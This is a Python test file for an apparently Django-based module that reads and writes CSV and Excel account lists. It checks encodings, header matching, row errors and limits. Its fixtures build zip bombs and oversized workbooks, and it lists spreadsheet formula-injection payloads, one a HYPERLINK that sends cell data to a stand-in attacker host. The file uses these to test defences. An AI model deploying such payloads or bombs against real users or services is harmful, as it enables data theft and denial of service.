"""core.tabular: encodings, headers, row errors, limits and formula escaping."""

import csv
import io
import time
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core import tabular
from core.errors import InvalidInput
from core.tabular import Column, RowError

COLUMNS = [
    Column("account", "个人账号", "Account number", blank=False, max_length=20),
    Column("name", "姓名", "Name", required=False),
    Column("base", "缴存基数", "Deposit base", Decimal, blank=False),
]


@pytest.fixture(autouse=True)
def chinese():
    with translation.override("zh-hans"):
        yield


def rows_of(table):
    return [(r.number, dict(r)) for r in table.rows]


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8-sig", "utf-8"])
def test_csv_in_every_encoding_excel_writes(encoding):
    data = "个人账号,姓名,缴存基数\n1010000000015,张三丰,\"9,000.50\"\n1010000000023,李四,5000\n".encode(encoding)
    table = tabular.read(data, columns=COLUMNS)
    assert rows_of(table) == [
        (2, {"account": "1010000000015", "name": "张三丰", "base": None}),
        (3, {"account": "1010000000023", "name": "李四", "base": Decimal("5000")}),
    ]
    # "9,000.50" is not a Decimal literal: one row error naming the row and the column as the file does
    assert table.errors == [RowError(2, "缴存基数", "数据无效")]
    assert str(table.errors[0]) == "第 2 行，缴存基数：数据无效"


def test_bom_is_not_part_of_the_first_header():
    data = "\ufeff个人账号,缴存基数\n1,2\n".encode()
    assert data.startswith(b"\xef\xbb\xbf")
    table = tabular.read(data, columns=COLUMNS)
    assert table.headers == {"account": "个人账号", "base": "缴存基数"}
    assert rows_of(table) == [(2, {"account": "1", "name": "", "base": Decimal("2")})]


def test_english_headers_in_any_order_and_case_with_a_workbook():
    wb = Workbook()
    ws = wb.active
    ws.append(["deposit base", "ACCOUNT NUMBER", "Remark"])
    ws.append([9000.5, 1010000000015, "x"])
    ws.append([None, None, None])  # blank rows are skipped, numbering follows the sheet
    ws.append([Decimal("4000"), "1010000000023", ""])
    out = io.BytesIO()
    wb.save(out)
    # judged by content: a workbook sent under a .csv name is still read as a workbook
    table = tabular.read(out.getvalue(), columns=COLUMNS, filename="list.csv")
    assert table.headers == {"account": "ACCOUNT NUMBER", "base": "deposit base"}
    assert rows_of(table) == [(2, {"account": "1010000000015", "name": "", "base": Decimal("9000.5")}),
                              (4, {"account": "1010000000023", "name": "", "base": Decimal("4000")})]


def test_missing_columns_and_missing_cells():
    with pytest.raises(InvalidInput) as info:
        tabular.read("姓名\n张三\n".encode(), columns=COLUMNS)
    assert info.value.code == "columns" and "个人账号" in info.value.message and "缴存基数" in info.value.message
    table = tabular.read(b"Account number,Deposit base\n,100\n12345678901234567890123,1\n", columns=COLUMNS)
    assert table.errors == [RowError(2, "Account number", "未填写"), RowError(3, "Account number", "超过 20 个字符")]
    with pytest.raises(tabular.RowsInvalid) as info:
        table.raise_errors()
    assert info.value.code == "bad_rows" and info.value.fields["rows"] == [
        "第 2 行，Account number：未填写", "第 3 行，Account number：超过 20 个字符"]


@pytest.mark.parametrize("data,code", [
    (b"", "empty_file"),
    (b"\n\n", "empty_file"),
    (b"\xff\xfe\x00\x00garbage\x00", "encoding"),
    (b"a,b\x00\n", "encoding"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "bad_format"),
    (b"PK\x03\x04not really a zip", "bad_file"),
])
def test_unreadable_files(data, code):
    with pytest.raises(InvalidInput) as info:
        tabular.read(data, columns=COLUMNS)
    assert info.value.code == code


def test_size_is_checked_before_reading():
    class Upload(io.BytesIO):
        size = 11 * 1024 * 1024

        def read(self, *args):  # pragma: no cover - must not be called
            raise AssertionError("read before the size check")

    with pytest.raises(InvalidInput) as info:
        tabular.read(Upload(b""), columns=COLUMNS)
    assert info.value.code == "file_too_large"
    with pytest.raises(InvalidInput) as info:
        tabular.read(b"x" * 101, columns=COLUMNS, max_bytes=100)
    assert info.value.code == "file_too_large"


def test_rows_past_the_limit_are_refused():
    data = ("个人账号,缴存基数\n" + "1,1\n" * 11).encode()
    assert len(tabular.read(data, columns=COLUMNS, max_rows=11).rows) == 11
    with pytest.raises(InvalidInput) as info:
        tabular.read(data, columns=COLUMNS, max_rows=10)
    assert info.value.code == "too_many_rows"


def test_a_200000_character_csv_field_is_a_row_error_not_a_crash():
    data = ("个人账号,缴存基数\n1,1\n2,\"" + "x" * 200_000 + "\"\n3,3\n").encode()
    table = tabular.read(data, columns=COLUMNS)
    assert [r.number for r in table.rows] == [2]
    assert len(table.errors) == 1 and table.errors[0].row == 3
    assert "131072" in table.errors[0].message
    # a long field under the csv limit is refused by the column's own limit
    table = tabular.read(("个人账号,缴存基数\n" + "9" * 100_000 + ",1\n").encode(), columns=COLUMNS)
    assert table.errors == [RowError(2, "个人账号", "超过 20 个字符")]


def _sheet_zip(sheet_xml: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
            'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"'
            '/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>'))
        z.writestr("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'))
        z.writestr("xl/workbook.xml", (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml'
            '/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'))
        z.writestr("xl/_rels/workbook.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'))
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return out.getvalue()


def _bomb(rows: int, dimension: bool) -> bytes:
    return _sheet_zip(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main">' + (f'<dimension ref="A1:B{rows}"/>' if dimension else "") + "<sheetData>"
        '<row><c t="inlineStr"><is><t>个人账号</t></is></c><c t="inlineStr"><is><t>缴存基数</t></is></c></row>'
        + '<row><c t="inlineStr"><is><t>1</t></is></c><c><v>1</v></c></row>' * rows + "</sheetData></worksheet>")


@pytest.mark.parametrize("dimension", [True, False])
def test_a_million_row_workbook_is_refused_fast_with_bounded_memory(dimension):
    data = _bomb(1_000_000, dimension)
    assert len(data) < 1024 * 1024  # a small upload that unpacks to a million rows
    started = time.perf_counter()
    with pytest.raises(InvalidInput) as info:
        tabular.read(data, columns=COLUMNS)
    elapsed = time.perf_counter() - started
    assert info.value.code == "too_many_rows"
    assert elapsed <= 2.0, elapsed
    tracemalloc.start()
    try:
        with pytest.raises(InvalidInput):
            tabular.read(data, columns=COLUMNS)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 32 * 1024 * 1024, peak
    # the same shape with few rows is read
    assert len(tabular.read(_bomb(3, dimension), columns=COLUMNS).rows) == 3


def test_from_records_checks_like_a_file():
    table = tabular.from_records([{"account": "1", "base": "10"}, {"account": "", "base": "x"}], columns=COLUMNS)
    assert rows_of(table)[0] == (2, {"account": "1", "name": "", "base": Decimal("10")})
    assert [str(e) for e in table.errors] == ["第 3 行，个人账号：未填写", "第 3 行，缴存基数：数据无效"]


DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"]
OUT_COLUMNS = [Column("name", "姓名", "Name"), Column("amount", "金额", "Amount")]


def test_csv_export_escapes_formulas():
    rows = [{"name": text, "amount": Decimal("-1.50")} for text in DANGEROUS] + [{"name": "张三", "amount": 2}]
    data = tabular.write(rows, OUT_COLUMNS, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # Excel shows the Chinese of a UTF-8 file with a BOM
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert table[0] == ["姓名", "金额"]
    assert [r[0] for r in table[1:]] == ["'" + text for text in DANGEROUS] + ["张三"]
    assert table[1][1] == "-1.50"  # numbers are numbers, not escaped text
    with translation.override("en"):
        assert tabular.write([], OUT_COLUMNS, "csv").decode("utf-8-sig").strip() == "Name,Amount"


def test_xlsx_export_escapes_formulas():
    rows = [{"name": text, "amount": Decimal("12.30")} for text in DANGEROUS]
    sheet = load_workbook(io.BytesIO(tabular.write(rows, OUT_COLUMNS, "xlsx", title="导出"))).active
    assert sheet.title == "导出"
    assert [sheet.cell(1, c).value for c in (1, 2)] == ["姓名", "金额"]
    for i, text in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(i, 1)
        # openpyxl's lxml writer (lxml is installed with pyHanko) keeps a CR as &#13;; without lxml, XML reads it as LF
        assert cell.data_type == "s" and cell.value in ("'" + text, "'" + text.replace("\r", "\n"))
    assert sheet.cell(2, 2).value == 12.3 and sheet.cell(2, 2).data_type == "n"


def test_unknown_export_format():
    with pytest.raises(InvalidInput):
        tabular.write([], OUT_COLUMNS, "pdf")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.one_of(
    st.binary(max_size=3000),
    st.binary(max_size=3000).map(lambda b: b"PK\x03\x04" + b),
    st.text(max_size=500).map(lambda t: ("个人账号,缴存基数\n" + t).encode("utf-8")),
    st.text(alphabet=st.characters(codec="gb18030"), max_size=500).map(
        lambda t: ("个人账号,姓名,缴存基数\n" + t).encode("gb18030")),
))
def test_any_bytes_give_rows_or_a_clean_refusal(data):
    try:
        table = tabular.read(data, columns=COLUMNS)
    except InvalidInput as exc:
        assert exc.code and exc.message
    else:
        assert all(isinstance(e, RowError) and str(e) for e in table.errors)
        assert all(r.number >= 2 for r in table.rows)


@settings(max_examples=200, deadline=None)
@given(texts=st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_no_exported_text_cell_starts_a_formula(texts):
    rows = [{"name": t, "amount": Decimal("1")} for t in texts]
    table = list(csv.reader(io.StringIO(tabular.write(rows, OUT_COLUMNS, "csv").decode("utf-8-sig"), newline="")))
    for text, row in zip(texts, table[1:], strict=False):
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row[0] in (text, "'" + text) or not text.strip()


def test_a_zip_bomb_is_refused_before_anything_is_unpacked():
    # 200 MB of XML that deflates to about 200 KB: refused from the zip's directory, nothing is inflated
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b"<row><c><v>1</v></c></row>" * 40_000
            for _ in range(200 * 1024 * 1024 // len(block)):
                member.write(block)
    data = out.getvalue()
    assert len(data) < 1024 * 1024
    started = time.perf_counter()
    tracemalloc.start()
    try:
        with pytest.raises(InvalidInput) as info:
            tabular.read(data, columns=COLUMNS)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started <= 2.0
    assert info.value.code == "file_too_large" and "MB" in info.value.message
    assert peak < 16 * 1024 * 1024, peak


def test_a_workbook_whose_zip_lies_about_its_sizes_is_refused():
    data = bytearray(_bomb(3, True))
    # shrink the declared uncompressed size of the sheet in the central directory: inflating stops there
    name = b"xl/worksheets/sheet1.xml"
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    data[at + 24:at + 28] = (10).to_bytes(4, "little")
    with pytest.raises(InvalidInput) as info:
        tabular.read(bytes(data), columns=COLUMNS)
    assert info.value.code == "bad_file"


def test_a_csv_line_of_a_million_fields_is_refused_with_bounded_memory():
    data = ("个人账号,缴存基数\n1,1\n2," + "," * (10 * 1024 * 1024 - 40) + "\n3,3\n").encode()
    started = time.perf_counter()
    tracemalloc.start()
    try:
        table = tabular.read(data, columns=COLUMNS)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started <= 2.0
    assert [r.number for r in table.rows] == [2]
    assert [str(e) for e in table.errors] == ["第 3 行：某一行超过 262144 个字符，文件其余部分未读取"]
    assert peak < 96 * 1024 * 1024, peak
